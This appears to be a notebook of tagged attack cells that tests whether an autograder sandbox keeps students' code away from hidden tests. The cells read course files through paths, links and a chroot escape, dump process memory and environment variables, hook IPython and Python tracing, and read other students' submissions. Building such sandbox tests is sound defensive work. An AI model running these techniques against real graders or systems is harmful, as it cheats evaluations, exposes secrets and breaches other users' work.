# %% [markdown]
# # A. Seeing the tests

# %% [markdown] threat="read test files by relative, absolute and globbed paths"
# The notebooks with the hidden tests, and all that goes with them, lie on the machine that grades.

# %% attack="reads the course's files by absolute paths" walls="mount" effect="sight"
for path in ("source/ps1/p1.ipynb", "gradebook.db", "course/ps1/assignment.py", "autograded/ada/ps1/p1.ipynb"):
    try:
        tell(open(os.path.join(KNOWN["course"], path), "rb").read())
    except OSError as error:
        print(error)

# %% attack="reads by relative paths" walls="mount" effect="sight"
up = os.path.relpath(KNOWN["course"])
for path in ("source/ps1/p1.ipynb", "gradebook.db", ".git/config"):
    try:
        tell(open(os.path.join(up, path), "rb").read())
    except OSError as error:
        print(error)

# %% attack="reads what a glob finds" walls="mount" effect="sight"
import glob

for folder in (os.path.dirname(os.path.dirname(KNOWN["course"])), "..", "../..", "/home/*", "/srv"):
    for path in glob.glob(folder + "/*/*/source/*/*.ipynb")[:20]:
        tell(open(path, "rb").read())

# %% attack="reads through links that it makes" walls="mount" effect="sight"
os.symlink(KNOWN["course"], "link")
try:
    os.link(KNOWN["course"] + "/source/ps1/p1.ipynb", "hard")
    tell(open("hard", "rb").read())
except OSError as error:
    print(error)
tell(open("link/source/ps1/p1.ipynb", "rb").read())

# %% attack="lets its own files be a link to the tests" walls="mount" effect="sight" places="before answer"
import os

try:
    os.link(KNOWN["course"] + "/source/ps1/p1.ipynb", "kept.txt")
except OSError:
    open("kept.txt", "w").write(open(KNOWN["course"] + "/source/ps1/p1.ipynb").read())
if os.path.exists("kept.txt"):
    data = open("kept.txt").read()
    os.unlink("kept.txt")
    open("kept.txt", "w").write(data)

# %% attack="lets another program read" walls="mount" effect="sight"
import subprocess

command = "cat '{0}/source/ps1/p1.ipynb' '{0}/gradebook.db' 2>&1".format(KNOWN["course"])
tell(subprocess.run(command, shell=True, capture_output=True).stdout)

# %% attack="imports a file of tests as a module" walls="mount" effect="sight"
import importlib.util

spec = importlib.util.spec_from_file_location("assignment", KNOWN["course"] + "/course/ps1/assignment.py")
tell(spec.loader.get_source("assignment"))

# %% [markdown] threat="walk /"
# A folder that nobody has named can be found.

# %% attack="walks the file tree" walls="mount" effect="sight" seconds=30
import time

SKIP = {"proc", "sys", "usr", "lib", "lib64", "site-packages", ".venv", "node_modules", "boot", "nix", "opt"}
level, end = ["/"], time.monotonic() + 60
near = os.path.dirname(os.path.dirname(KNOWN["course"]))
while level and not FOUND and time.monotonic() < end:
    level, below = [], level
    for folder in below:
        if FOUND or time.monotonic() > end:
            break
        try:
            entries = list(os.scandir(folder))[:200]
        except OSError:
            continue
        for entry in entries:
            if entry.is_dir(follow_symlinks=False) and entry.name not in SKIP:
                level.append(entry.path)
            elif entry.name in ("p1.ipynb", "gradebook.db", "assignment.py") and entry.is_file():
                tell(open(entry.path, "rb").read(1_000_000))
    level.sort(key=lambda path: not (near + "/").startswith(path + "/"))

# %% attack="opens the root of another process" walls="mount pid" effect="sight"
for name in os.listdir("/proc"):
    if name.isdigit() and FOUND == []:
        for way in ("root" + KNOWN["course"], "cwd"):
            try:
                tell(open(f"/proc/{name}/{way}/source/ps1/p1.ipynb", "rb").read())
            except OSError:
                pass

# %% attack="opens a folder above the root" walls="mount" effect="sight"
descriptor = os.open("/", os.O_RDONLY)
for _ in range(20):
    descriptor = os.open("..", os.O_RDONLY, dir_fd=descriptor)
try:
    os.chroot(".")
    os.fchdir(descriptor)
    os.chroot("../../../../../../..")
except OSError as error:
    print(error)
tell(open(os.open(KNOWN["course"].lstrip("/") + "/source/ps1/p1.ipynb", os.O_RDONLY, dir_fd=descriptor), "rb").read())

# %% [markdown] threat="stack frames and gc"
# In one process, a function can look at who calls it, and at every object.

# %% attack="stack frames" walls="process" effect="sight" places="call"
import sys

frame = sys._getframe()
while frame:
    tell(list(frame.f_locals.values()))
    tell([value for name, value in frame.f_globals.items() if name not in ("FOUND", "KNOWN")])
    tell(frame.f_code.co_consts)
    frame = frame.f_back

# %% attack="the objects of the garbage collector" walls="process" effect="sight" places="call before answer"
import gc
import types

gc.collect()
for one in gc.get_objects():
    if type(one) in (dict, list, tuple, set):
        tell([part for part in (one.values() if type(one) is dict else one) if type(part) in (str, bytes)])
    elif isinstance(one, types.FunctionType):
        tell(one.__code__.co_consts)

# %% attack="who refers to its argument" walls="process" effect="sight" places="call"
import gc

level = [globals()]
for _ in range(2):
    level = [one for thing in level for one in gc.get_referrers(thing)][:200]
    for one in level:
        if isinstance(one, dict):
            tell(list(one.values())[:500])
tell(list(globals().get("expected", {})))

# %% attack="its own memory" walls="process" effect="sight" places="call before answer"
import re

with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        first, last, rights = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\S+)", line).groups()
        first, last = int(first, 16), int(last, 16)
        if rights.startswith("rw") and last - first < 1 << 28:
            try:
                memory.seek(first)
                tell(memory.read(last - first))
            except (OSError, ValueError, OverflowError):
                pass

# %% [markdown] threat="/proc/self and the parent's environ, cmdline, fds, maps"
# The kernel tells about processes what they have not hidden.

# %% attack="/proc/self" walls="process" effect="sight"
for name in ("environ", "cmdline", "maps", "mounts", "stat"):
    tell(open("/proc/self/" + name, "rb").read())
tell(dict(os.environ))

# %% attack="the parents' environ and cmdline" walls="process" effect="excess" most=0
pid, reached = os.getpid(), 0
while pid > 0 and os.path.exists(f"/proc/{pid}/stat"):
    pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read()
            tell(text)
            reached += len(text) > 0
        except OSError:
            pass
reach(reached)

# %% attack="every process's environ and cmdline" walls="process" effect="sight"
for name in os.listdir("/proc"):
    if name.isdigit():
        for what in ("environ", "cmdline"):
            try:
                tell(open(f"/proc/{name}/{what}", "rb").read())
            except OSError:
                pass

# %% attack="another process's descriptors" walls="process" effect="sight"
import glob

for path in glob.glob(f"/proc/{KNOWN['pid']}/fd/*"):
    if "(deleted)" in os.readlink(path):
        tell(open(path, "rb").read(1000))

# %% attack="the memory of other processes" walls="process" effect="sight" seconds=30
import re
import time

end = time.monotonic() + 60
family = {os.getppid(), KNOWN["pid"]}
for name in os.listdir("/proc"):
    try:
        if name.isdigit() and int(open(f"/proc/{name}/stat").read().rpartition(")")[2].split()[1]) == os.getppid():
            family.add(int(name))
    except OSError:
        pass
for pid in sorted(family - {os.getpid(), 0}):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last, rights = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\S+)", line).groups()
                first, last = int(first, 16), int(last, 16)
                if rights.startswith("rw") and last - first < 1 << 26 and not FOUND and time.monotonic() < end:
                    try:
                        memory.seek(first)
                        tell(memory.read(last - first))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError as error:
        print(error)

# %% [markdown] threat="environment variables"
# The seed of the hidden tests is an environment variable of the grader.

# %% attack="os.environ" walls="process" effect="sight"
tell(dict(os.environ))
tell(os.environ.get("COURSE_SEED"))

# %% attack="the environment that C code sees" walls="process" effect="sight"
import ctypes

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
place = 0
while environ[place]:
    tell(environ[place])
    place += 1

# %% attack="the environment of a child process" walls="process" effect="sight"
import subprocess

tell(subprocess.run(["env"], capture_output=True).stdout)

# %% [markdown] threat="IPython history and In; pre_run_cell handlers"
# The shell remembers what it ran, and tells whoever has asked to be told.

# %% attack="In and _ih" walls="process" effect="sight" places="call"
tell(In)
tell(get_ipython().user_ns["_ih"])
tell([get_ipython().user_ns.get(name) for name in ("_i", "_ii", "_iii")])

# %% attack="the history manager" walls="process" effect="sight" places="call"
manager = get_ipython().history_manager
tell(manager.input_hist_raw)
tell(manager.input_hist_parsed)

# %% attack="a pre_run_cell handler" walls="process" effect="sight" places="before answer"
get_ipython().events.register("pre_run_cell", lambda info: tell(info.raw_cell))

# %% attack="a post_run_cell handler" walls="process" effect="sight" places="before answer"
get_ipython().events.register("post_run_cell", lambda result: tell(result.info.raw_cell))


# %% attack="an input transformer that reads" walls="process" effect="sight" places="before answer"
def read(lines):
    tell(lines)
    return lines


get_ipython().input_transformers_cleanup.append(read)

# %% attack="the cache of source lines" walls="process" effect="sight" places="call"
import linecache

tell(list(linecache.cache.values()))

# %% [markdown] threat="sys.settrace"
# A tracer gets every frame of its thread.

# %% attack="sys.settrace" walls="process" effect="sight" places="before answer"
import sys


def trace(frame, event, argument):
    if "__builtins__" in frame.f_globals and "FOUND" in frame.f_globals and frame.f_code.co_name == "<module>":
        tell(frame.f_code.co_consts)
    return trace


sys.settrace(trace)

# %% attack="sys.setprofile" walls="process" effect="sight" places="before answer"
import sys


def profile(frame, event, argument):
    if frame.f_code.co_name == "<module>":
        tell(frame.f_code.co_consts)


sys.setprofile(profile)

# %% attack="an audit hook" walls="process" effect="sight" places="before answer"
import sys


def hook(event, arguments):
    if event in ("compile", "exec"):
        tell(arguments if event == "compile" else arguments[0].co_consts)


sys.addaudithook(hook)

# %% attack="a thread that looks at all frames" walls="process" effect="sight" places="before answer"
import sys
import threading
import time


def watch():
    while not FOUND:
        for frame in list(sys._current_frames().values()):
            while frame:
                tell(frame.f_code.co_consts)
                frame = frame.f_back
        time.sleep(0.001)


threading.Thread(target=watch, daemon=True).start()
np_real = __import__("numpy").testing.assert_allclose
__import__("numpy").testing.assert_allclose = lambda *args, **kwargs: (time.sleep(0.05), np_real(*args, **kwargs))

# %% [markdown] threat="traceback text"
# An exception on its way out passes the lines of the test.

# %% attack="the last exception" walls="process" effect="sight" places="call"
import sys

get_ipython().events.register(
    "post_run_cell", lambda result: tell([str(result.error_in_exec), getattr(sys, "last_value", "")])
)

# %% attack="showtraceback reads along" walls="process" effect="sight" places="before answer"
import sys
import traceback


def read(*args, **kwargs):
    tell("".join(traceback.format_exception(*sys.exc_info())))


get_ipython().showtraceback = read

# %% attack="an exception that holds on to its frames" walls="process" effect="sight" places="call"
try:
    raise ValueError("look")
except ValueError as error:
    frame = error.__traceback__.tb_frame
    while frame:
        tell(frame.f_code.co_consts)
        frame = frame.f_back

# %% attack="sys.excepthook and custom handlers" walls="process" effect="sight" places="before answer"
import traceback

get_ipython().set_custom_exc(
    (Exception,), lambda shell, kind, value, trace, tb_offset=None: tell("".join(traceback.format_exception(value)))
)

# %% [markdown] threat="other submissions and left-overs in temporary folders and /dev/shm"
# What others handed in, or left behind, is theirs.

# %% attack="other submissions" walls="mount" effect="sight"
import glob

for path in glob.glob(KNOWN["course"] + "/submitted/*/*/*") + glob.glob(KNOWN["course"] + "/autograded/*/*/*"):
    if "mallory" not in path:
        tell(open(path, "rb").read())

# %% attack="temporary folders" walls="mount" effect="sight" seconds=8
import glob

for path in glob.glob(os.path.dirname(KNOWN["course"]) + "/left*"):
    tell(open(path, "rb").read())

# %% attack="/dev/shm" walls="mount" effect="sight"
for name in os.listdir(KNOWN["host"] + "/dev/shm"):
    if name.startswith("left-by"):
        tell(open(KNOWN["host"] + "/dev/shm/" + name, "rb").read(1000))

# %% attack="leaves something for the next" walls="mount landlock" effect="harm"
for folder in ("/dev/shm", "/tmp", "/var/tmp"):
    try:
        with open(f"{KNOWN['host']}{folder}/{KNOWN['mark']}", "w") as file:
            file.write("x")
    except OSError as error:
        print(error)

# %% [markdown] threat="inherited descriptors"
# A descriptor that is open needs no path.

# %% attack="reads from every descriptor" walls="process" effect="sight" places="before answer"
import fcntl

for number in range(3, 256):
    try:
        if not os.readlink(f"/proc/self/fd/{number}").startswith(("socket:", "pipe:")):
            tell(os.pread(number, 1_000_000, 0))
    except OSError:
        pass
tell(os.environ)

# %% attack="goes on from the folder of a descriptor" walls="mount" effect="sight"
for number in range(256):
    for way in ("..", "../..", "../../..", ""):
        try:
            tell(open(os.open(f"{way}/source/ps1/p1.ipynb".lstrip("/"), os.O_RDONLY, dir_fd=number), "rb").read())
        except OSError:
            pass
folder = os.open(".", os.O_RDONLY)
tell(open(os.open(os.path.relpath(KNOWN["course"]) + "/source/ps1/p1.ipynb", os.O_RDONLY, dir_fd=folder), "rb").read())

# %% [markdown] threat="the solution in an installed package, the course folder or git"
# The grader, the helpers and the course are parts of one repository; a student's process needs the helpers only.

# %% attack="the course beside the helpers' module" walls="process" effect="sight"
import pathlib

import utils

for folder in pathlib.Path(utils.__file__).resolve().parents:
    for path in list(folder.glob("course/*/assignment.py"))[:5] + list(folder.glob("source/*/*.ipynb"))[:5]:
        text = path.read_text()
        tell(text)
        if "BEGIN HIDDEN TESTS" in text:
            print("HIDDEN" + " TESTS FOUND")

# %% attack="the course beside the grader's module" walls="process" effect="sight"
import pathlib
import sys

for entry in sys.path:
    for folder in [pathlib.Path(entry or ".").resolve(), *pathlib.Path(entry or ".").resolve().parents][:6]:
        for path in (
            list(folder.glob("course/*/assignment.py"))[:5] + list(folder.glob("release/../source/*/*.ipynb"))[:5]
        ):
            if "BEGIN HIDDEN TESTS" in path.read_text():
                print("HIDDEN" + " TESTS FOUND")

# %% attack="the repository's history" walls="mount" effect="sight"
import pathlib
import subprocess

import utils

tell(open(KNOWN["course"] + "/.git/config").read() if os.path.exists(KNOWN["course"] + "/.git/config") else "")
root = pathlib.Path(utils.__file__).resolve().parents[1]
if (root / ".git").exists():
    print("HIDDEN" + " TESTS FOUND in " + ".git")
